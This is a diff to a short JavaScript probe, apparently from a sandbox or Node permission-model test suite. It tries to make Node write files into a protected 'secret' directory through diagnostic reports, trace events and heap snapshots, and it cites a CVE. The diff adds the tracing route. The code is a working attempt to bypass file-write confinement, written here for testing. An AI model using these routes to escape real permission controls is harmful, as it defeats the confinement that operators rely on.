@@ -1,9 +1,10 @@
-// Route: Has Node write files for it: a diagnostic report, a heap snapshot.
+// Route: Has Node write files for it: a diagnostic report, a trace, a heap snapshot.
 // Known from: CVE-2026-48617 (Node permission model, process.report.writeReport)
 // Refused: EACCES, EPERM, ENOSYS, absent
 // Twin: asks for statistics of the heap
 // Unconfined: works
 import fs from 'node:fs';
+import { createTracing } from 'node:trace_events';
 import v8 from 'node:v8';
 
 export const attempt = ({ base }) => {
@@ -11,6 +12,9 @@ export const attempt = ({ base }) => {
   try {
     process.report.writeReport('report.json');
     if (fs.existsSync(`${base}/secret/report.json`)) return;
+  } catch {}
+  try {
+    return createTracing({ categories: ['node'] }).enable();
   } catch {}
   v8.writeHeapSnapshot(`${base}/secret/heap`);
 };
